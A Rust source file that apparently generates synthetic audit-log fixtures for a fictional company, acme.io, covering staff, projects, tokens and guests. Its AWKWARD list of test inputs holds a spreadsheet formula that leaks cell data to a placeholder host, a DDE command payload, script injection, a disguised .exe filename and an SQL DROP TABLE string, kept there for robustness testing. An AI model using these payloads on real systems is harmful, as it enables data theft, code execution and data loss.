//! acme.io: who works there, on what, and which outsiders and tokens come and go.

use crate::chance::Chance;
use crate::week::Week;

/// Somebody on acme.io's payroll.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Person {
    /// The address that vendors know them by.
    pub(crate) email: &'static str,
    /// The name as they write it.
    pub(crate) name: &'static str,
}

/// Something acme.io builds.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Project {
    /// The short name in addresses.
    pub(crate) slug: &'static str,
    /// The name in headings.
    pub(crate) name: &'static str,
}

/// An API token: made in one week, used by machines, withdrawn some weeks later.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Token {
    /// The id that every row made with it carries.
    pub(crate) id: String,
    /// What its owner called it.
    pub(crate) name: &'static str,
    /// Who made it.
    pub(crate) owner: &'static Person,
}

const fn person(email: &'static str, name: &'static str) -> Person {
    Person { email, name }
}

const fn project(slug: &'static str, name: &'static str) -> Project {
    Project { slug, name }
}

/// The administrators stand first.
pub(crate) static PEOPLE: [Person; 14] = [
    person("alice@acme.io", "Alice Moreau"),
    person("carol@acme.io", "Carol Nwosu"),
    person("hugo@acme.io", "Hugo Lindqvist"),
    person("bob@acme.io", "Bob Tanaka"),
    person("dmitri@acme.io", "Дмитрий Орлов"),
    person("elena@acme.io", "Elena García"),
    person("farid@acme.io", "فرید رحیمی"),
    person("grace@acme.io", "Grace Kim"),
    person("ines@acme.io", "Inês Duarte"),
    person("jonas@acme.io", "Jonas Weiß"),
    person("kavya@acme.io", "Kavya Iyer"),
    person("liam@acme.io", "Liam O'Brien"),
    person("mei@acme.io", "陳美"),
    person("zoe@acme.io", "Okafor, Zoë \"Zo\""),
];
const ADMINS: usize = 3;

/// What acme.io builds; the first two are the busiest.
pub(crate) static PROJECTS: [Project; 7] = [
    project("payments-api", "Payments API"),
    project("storefront", "Storefront"),
    project("status-api", "Status API"),
    project("onboarding", "Onboarding"),
    project("billing", "Billing"),
    project("identity", "Identity"),
    project("search-api", "Search API"),
];

/// Names that people and attackers really put into free fields. Each must survive every table, CSV and page.
pub(crate) static AWKWARD: [&str; 9] = [
    "=HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"open\")",
    "<script>alert('audit')</script>",
    "invoice_\u{202e}fdp.exe",
    "Zażółć, \"gęślą\" jaźń",
    "+1 (555) 010-7788",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "first line\nsecond line\tand a tab",
    "'; DROP TABLE audit_log; --",
    "تقرير الفوترة - 2026",
];

static BRANCHES: [&str; 10] = [
    "feat/checkout-v2",
    "feat/sso-login",
    "fix/webhook-retry",
    "fix/rounding",
    "chore/bump-openapi",
    "feat/refunds-api",
    "docs/quickstart",
    "fix/status-cache",
    "feat/tax-ids",
    "refactor/pagination",
];
static TOKEN_NAMES: [&str; 6] =
    ["ci-pipeline", "docs-sync", "release-bot", "spec-lint", "partner-import", "backup-job"];
static GUEST_FIRST: [&str; 16] = [
    "lena", "marco", "priya", "sofia", "tomasz", "yuki", "omar", "chloe", "andrei", "nadia", "pavel", "rosa",
    "samir", "tessa", "viktor", "wanda",
];
static GUEST_LAST: [&str; 13] = [
    "brandt", "costa", "dubois", "eriksen", "fontana", "gruber", "hakimi", "ivanova", "jensen", "kowalski",
    "larsen", "mbeki", "novak",
];
static GUEST_HOSTS: [&str; 3] = ["northwind.example", "studio-kepler.example", "contoso-partners.example"];

/// Apart from every other draw: the first part of a place for each kind of thing that outlives a week.
const TOKEN_PLACE: u64 = 0x0074_6f6b;
const GUEST_PLACE: u64 = 0x0067_7565;
const PERSON_PLACE: u64 = 0x0070_6572;
const PROJECT_PLACE: u64 = 0x0070_726f;
const SANDBOX_PLACE: u64 = 0x0073_616e;

/// Anybody.
pub(crate) fn any_person(chance: &mut Chance) -> &'static Person {
    chance.choose(&PEOPLE)
}

/// Somebody who may change settings.
pub(crate) fn admin(chance: &mut Chance) -> &'static Person {
    chance.choose(&PEOPLE[..ADMINS])
}

/// Somebody without administrator rights.
pub(crate) fn member(chance: &mut Chance) -> &'static Person {
    chance.choose(&PEOPLE[ADMINS..])
}

/// Everybody without administrator rights, each with their place among them.
pub(crate) fn members() -> impl Iterator<Item = (&'static Person, i64)> {
    PEOPLE[ADMINS..].iter().zip(0..)
}

/// A number that stays with a person for one term and is another in the next.
pub(crate) fn whim(seed: u64, person: &Person, term: i64) -> u64 {
    Chance::at(seed, &[PERSON_PLACE, position(person), term.cast_unsigned()]).bits()
}

/// A project; half of the work is on the first two.
pub(crate) fn any_project(chance: &mut Chance) -> &'static Project {
    if chance.happens(40) { chance.choose(&PROJECTS[..2]) } else { chance.choose(&PROJECTS) }
}

/// A branch name.
pub(crate) fn branch(chance: &mut Chance) -> &'static str {
    chance.pick(&BRANCHES)
}

/// The token that is made in this week.
pub(crate) fn token_of(seed: u64, week: Week) -> Token {
    let mut chance = Chance::at(seed, &[TOKEN_PLACE, week.place()]);
    let id = format!("otwx_pat_{}", chance.hex(12));
    Token { id, name: chance.pick(&TOKEN_NAMES), owner: any_person(&mut chance) }
}

/// The address of the outsider who is invited in this week.
pub(crate) fn guest_of(seed: u64, week: Week) -> String {
    let mut chance = Chance::at(seed, &[GUEST_PLACE, week.place()]);
    let (first, last) = (chance.pick(&GUEST_FIRST), chance.pick(&GUEST_LAST));
    format!("{first}.{last}@{}", chance.pick(&GUEST_HOSTS))
}

/// The short-lived project that is started in this week.
pub(crate) fn sandbox_of(seed: u64, week: Week) -> String {
    format!("sandbox-{}", Chance::at(seed, &[SANDBOX_PLACE, week.place()]).hex(6))
}

/// The UUID that a vendor keeps for a person.
pub(crate) fn person_uuid(person: &Person) -> String {
    Chance::at(PERSON_PLACE, &[position(person)]).uuid()
}

/// The id of a person at Clerk: `user_` and 27 letters or digits.
pub(crate) fn clerk_id(person: &Person) -> String {
    const ALPHABET: &[u8; 62] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
    let mut chance = Chance::at(PERSON_PLACE, &[position(person), 1]);
    let rest: String = (0..26).map(|_| char::from(chance.pick(ALPHABET))).collect();
    format!("user_2{rest}")
}

/// The UUID that a vendor keeps for a project.
pub(crate) fn project_uuid(project: &Project) -> String {
    let position = PROJECTS.iter().position(|known| known == project).map_or(u64::MAX, |at| at as u64);
    Chance::at(PROJECT_PLACE, &[position]).uuid()
}

fn position(person: &Person) -> u64 {
    PEOPLE.iter().position(|known| known == person).map_or(u64::MAX, |at| at as u64)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nobody_shares_an_id() {
        let mut ids: Vec<String> = PEOPLE.iter().flat_map(|who| [clerk_id(who), person_uuid(who)]).collect();
        ids.extend(PROJECTS.iter().map(project_uuid));
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), 2 * PEOPLE.len() + PROJECTS.len());
    }

    #[test]
    fn a_token_is_the_same_whenever_it_is_asked_for() {
        let week = Week::of_ms(1_780_000_000_000);
        assert_eq!(token_of(3, week), token_of(3, week));
        assert_ne!(token_of(3, week).id, token_of(3, week.back(1)).id);
    }
}
